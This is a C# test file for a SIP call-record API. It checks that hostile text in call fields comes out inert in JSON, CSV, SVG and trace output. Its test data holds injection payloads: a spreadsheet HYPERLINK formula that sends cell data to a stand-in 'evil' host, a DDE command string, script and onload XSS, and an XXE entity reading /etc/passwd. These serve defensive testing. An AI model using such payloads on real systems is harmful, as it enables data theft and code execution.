using System.Xml.Linq;
using CdrEngine.Api.Ladder;
using CdrEngine.Calls.Transcripts;
using CdrEngine.TestKit;
using CsvHelper;

namespace CdrEngine.Api.Tests;

/// <summary>Whatever SIP carried comes out as text and as nothing else.</summary>
public sealed class HostileTextTests
{
    public static TheoryData<string> Texts =>
    [
        "=HYPERLINK(\"http://evil/?\"&A1)",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "a,b\"c\r\nd;e",
        "\"",
        "<script>alert(1)</script>",
        "]]><svg onload=alert(1)>",
        "\" onload=\"alert(1)",
        "' onload='alert(1)",
        "&amp;&#x3c;b>",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
        "\0\u0001\u001b[2J\u007f\u0085",
        "\u202egnp.exe\u202c\u200b\ufeff",
        "half \ud83d pair \udc00",
        "\ufffe\uffff",
        "📞 Ünïcode",
        "{\"x\":1}</title>",
        new('x', 5000),
    ];

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task Json_OfHostileText_HasItAsItIs(string text)
    {
        await using Rig rig = await Rig.StartAsync();
        CallRecord call = TestCalls.Full(text);
        rig.Calls.Add(call);
        JsonElement one = await rig.JsonAsync($"/api/v1/calls/{call.Id}");
        JsonElement listed = (await rig.JsonAsync("/api/v1/calls")).GetProperty("calls")[0];
        string line = (await (await rig.GetAsync("/api/v1/calls?format=ndjson")).Content.ReadAsStringAsync()).TrimEnd('\n');
        Assert.DoesNotContain('\n', line);
        string expected = text.Contains("half", StringComparison.Ordinal) ? "half \ufffd pair \ufffd" : text;
        foreach (JsonElement json in (JsonElement[])[one, listed, JsonDocument.Parse(line).RootElement])
        {
            Assert.Equal(expected, json.GetProperty("sip_call_id").GetString());
            Assert.Equal(expected, json.GetProperty("caller").GetProperty("name").GetString());
            Assert.Equal(expected, json.GetProperty("headers")[0].GetProperty("value").GetString());
        }
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task Csv_OfHostileText_HasOneLineOfCellsThatAreNoFormulas(string text)
    {
        await using Rig rig = await Rig.StartAsync();
        rig.Calls.Add(TestCalls.Full(text));
        byte[] csv = await (await rig.GetAsync("/api/v1/calls?format=csv")).Content.ReadAsByteArrayAsync();
        using CsvReader reader = CsvReader.Create(new MemoryStream(csv), new CsvReaderOptions { Separator = ',' });
        Assert.True(reader.Read());
        string[] cells = Enumerable.Range(0, reader.FieldCount).Select(i => reader[i].ToString()).ToArray();
        Assert.False(reader.Read());
        Assert.Equal(CallColumns.All.Count, cells.Length);
        Assert.All(cells, static cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n', cell));
        Assert.All(cells, static cell => Assert.DoesNotContain(cell, static c => char.IsControl(c) && c is not ('\t' or '\r' or '\n')));
        string name = cells[CallColumns.All.Select(static column => column.Name).ToList().IndexOf("caller_name")];
        if (text.All(static c => !char.IsControl(c) && !char.IsSurrogate(c))) Assert.EndsWith(text, name, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public void Svg_OfHostileText_IsWellFormedAndHasOnlyShapes(string text)
    {
        var messages = new List<LadderMessage>
        {
            new() { At = TestCalls.Start, Source = TestCalls.Address("192.0.2.1", 1), Destination = TestCalls.Address("2001:db8::1", 2), Title = text, CSeq = text, Sdp = text, Hash = 1 },
            new() { At = TestCalls.Start, Source = TestCalls.Address("192.0.2.1", 1), Destination = TestCalls.Address("192.0.2.1", 1), Title = text, CSeq = $"1 {text}", StatusCode = 200, Hash = 2 },
        };
        string svg = LadderSvg.Draw(TestCalls.Full(text), messages, isCut: true, maxColumns: 16);
        XDocument document = XDocument.Parse(svg);
        string[] allowed = ["svg", "title", "rect", "text", "line", "g", "path", "polygon"];
        Assert.All(document.Descendants(), element =>
        {
            Assert.Equal("http://www.w3.org/2000/svg", element.Name.NamespaceName);
            Assert.Contains(element.Name.LocalName, allowed);
            Assert.DoesNotContain(element.Attributes(), static attribute => attribute.Name.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name.LocalName.EndsWith("href", StringComparison.OrdinalIgnoreCase));
        });
        Assert.DoesNotContain(svg, static c => (char.IsControl(c) && c != '\n') || c is '\u202e' or '\u200b' or '\ufeff');
        Assert.InRange(svg.Length, 500, 12_000);
    }

    [Theory]
    [MemberData(nameof(Texts))]
    public async Task TraceAndLadder_OfHostileMessages_ArePlain(string text)
    {
        await using Rig rig = await Rig.StartAsync();
        string line = string.Concat(text.Where(static c => c is not ('\r' or '\n')));
        CallRecord call = TestCalls.Call(0, "c@host");
        rig.Calls.Add(call);
        rig.Packets.AddSip(call.Id, "192.0.2.1:5060", "192.0.2.2:5060", SipText.Invite("c@host", "alice", "bob").With("Subject", line).WithBody("text/plain", text));
        HttpResponseMessage trace = await rig.GetAsync($"/api/v1/calls/{call.Id}.trace");
        Assert.Equal(HttpStatusCode.OK, trace.StatusCode);
        Assert.DoesNotContain(await trace.Content.ReadAsStringAsync(), static c => char.IsControl(c) && c is not ('\n' or '\t'));
        HttpResponseMessage ladder = await rig.GetAsync($"/api/v1/calls/{call.Id}/ladder.svg");
        Assert.Equal("svg", XDocument.Parse(await ladder.Content.ReadAsStringAsync()).Root!.Name.LocalName);
    }

    [Fact]
    public void Ladder_WithMoreAddressesThanColumns_SharesTheLast()
    {
        LadderMessage[] messages = Enumerable.Range(1, 40)
            .Select(static i => new LadderMessage { At = TestCalls.Start, Source = TestCalls.Address("192.0.2.1", 5060), Destination = TestCalls.Address($"198.51.100.{i}", 5060), Title = "INVITE", Hash = (ulong)i })
            .ToArray();
        string[] texts = XDocument.Parse(LadderSvg.Draw(TestCalls.Call(0), messages, isCut: false, maxColumns: 4)).Descendants().Where(static element => element.Name.LocalName == "text").Select(static element => element.Value).ToArray();
        Assert.Contains("38 further addresses", texts);
        Assert.Contains("198.51.100.2:5060", texts);
        Assert.DoesNotContain("198.51.100.3:5060", texts);
        Assert.Equal(40, texts.Count(static text => text == "INVITE"));
    }
}
